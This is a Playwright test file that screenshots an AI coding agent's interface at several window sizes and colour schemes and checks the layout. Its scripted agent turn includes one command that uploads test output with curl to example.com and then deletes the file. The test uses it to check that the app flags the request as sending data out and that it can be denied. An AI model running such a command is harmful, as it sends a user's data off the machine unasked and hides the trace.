import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { startServedApp, type ServedApp } from './support/servedApp';
import { permissionDialog, sessionStatus, startTask } from './support/ui';

// Every main screen at 1440×900 and 1024×700, light and dark (issue #18), kept in
// test-results/screens/ for a person to look at. Each shot is also checked for what a person would
// see wrong first: a page wider than the window, or a main pane squeezed out of use.

let app: ServedApp | undefined;
test.afterEach(async () => {
  await app?.close();
  app = undefined;
});

const sizes = [
  { width: 1440, height: 900 },
  { width: 1024, height: 700 },
] as const;
const schemes = ['light', 'dark'] as const;
const folder = path.resolve('test-results/screens');

async function shoot(page: Page, screen: string, panes: string[]): Promise<void> {
  mkdirSync(folder, { recursive: true });
  for (const size of sizes) {
    await page.setViewportSize(size);
    for (const scheme of schemes) {
      await page.emulateMedia({ colorScheme: scheme });
      // The layout settles over a few frames after a resize (the review column folds, Monaco lays out
      // again): the checks are retried until it has, rather than after a fixed wait.
      await expect(async () => {
        const overflow = await page.evaluate(() => document.scrollingElement!.scrollWidth - window.innerWidth);
        expect(overflow, `${screen} at ${size.width}: the page is wider than the window`).toBeLessThanOrEqual(0);
        for (const pane of panes) {
          const found = await page.getByTestId(pane).first().boundingBox();
          expect(found, `${screen} at ${size.width}: ${pane} is not on screen`).not.toBeNull();
          expect(found!.width, `${screen} at ${size.width}: ${pane} is squeezed`).toBeGreaterThanOrEqual(150);
          expect(found!.height, `${screen} at ${size.width}: ${pane} is squeezed`).toBeGreaterThanOrEqual(30);
          expect(found!.x + found!.width, `${screen} at ${size.width}: ${pane} runs off the window`).toBeLessThanOrEqual(size.width + 1);
          // Nothing lies over it: a click at its middle and near its bottom reaches it.
          const reached = await page
            .getByTestId(pane)
            .first()
            .evaluate((element) => {
              const box = element.getBoundingClientRect();
              return [box.top + box.height / 2, box.bottom - 3].every((y) => {
                const top = document.elementFromPoint(box.left + box.width / 2, y);
                return top !== null && (element === top || element.contains(top) || top.contains(element));
              });
            });
          expect(reached, `${screen} at ${size.width}: ${pane} is covered`).toBe(true);
        }
      }).toPass({ timeout: 10_000 });
      await page.screenshot({ path: path.join(folder, `${screen}-${size.width}x${size.height}-${scheme}.png`) });
    }
  }
}

test('every main screen, at 1440×900 and 1024×700, light and dark', async ({ page }) => {
  app = await startServedApp({
    turns: [
      {
        toolCalls: [
          {
            name: 'run_command',
            arguments: { command: 'npm test 2>&1 | tee out.txt && curl -X POST https://example.com/upload -d @out.txt && rm -f out.txt' },
          },
        ],
      },
      {
        toolCalls: [{ name: 'write_file', arguments: { path: 'notes.md', content: '# Notes\n\nThe failing test was the date parser.\n' } }],
      },
      { text: 'Done: `notes.md` has the notes.\n\n```ts\nexport const answer = 42;\n```' },
    ],
  });
  await page.goto(app.url);
  await expect(page.getByTestId('sidebar')).toBeVisible();
  await shoot(page, 'start', ['sidebar']);

  await startTask(page, 'Find out why the test fails and write notes');
  await permissionDialog(page);
  // The inbox rates the request as the request does: by its riskiest part, the upload.
  await expect(page.getByTestId('inbox-item')).toHaveAttribute('data-risk', 'sends');
  await expect(page.getByTestId('inbox-item')).toContainText('sends data out');
  await shoot(page, 'request-command', ['sidebar', 'permission-dialog', 'task-box']);
  await page.getByTestId('permission-deny').click();

  await permissionDialog(page);
  await shoot(page, 'request-write', ['sidebar', 'permission-dialog', 'task-box']);
  await page.getByTestId('permission-allow-once').click();
  await sessionStatus(page, 'done');
  // Opened by the person (from its rail, folded first if it opened by itself), so it stays open at
  // every size: below 1200 px of window it would otherwise wait folded to its rail.
  const column = page.getByTestId('review-column');
  const rail = page.getByTestId('review-open');
  await expect(column.or(rail)).toBeVisible({ timeout: 15_000 });
  if (await column.isVisible()) await page.getByTestId('review-toggle').click();
  await rail.click();
  await expect(page.getByTestId('diff-file')).toHaveCount(1, { timeout: 15_000 });
  await page.getByTestId('diff-file').first().click();
  await expect(page.locator('.diff-viewer .monaco-editor').first()).toBeVisible({ timeout: 20_000 });
  await shoot(page, 'session-done', ['sidebar', 'conversation', 'review-column', 'terminal-panel', 'task-box']);

  await page.getByTestId('settings-button').click();
  await expect(page.getByTestId('sidebar')).toBeVisible();
  await shoot(page, 'settings', ['sidebar']);

  await page.getByTestId('shortcuts-button').click();
  await expect(page.getByTestId('shortcuts-sheet')).toBeVisible();
  await shoot(page, 'shortcuts', ['shortcuts-sheet']);
});
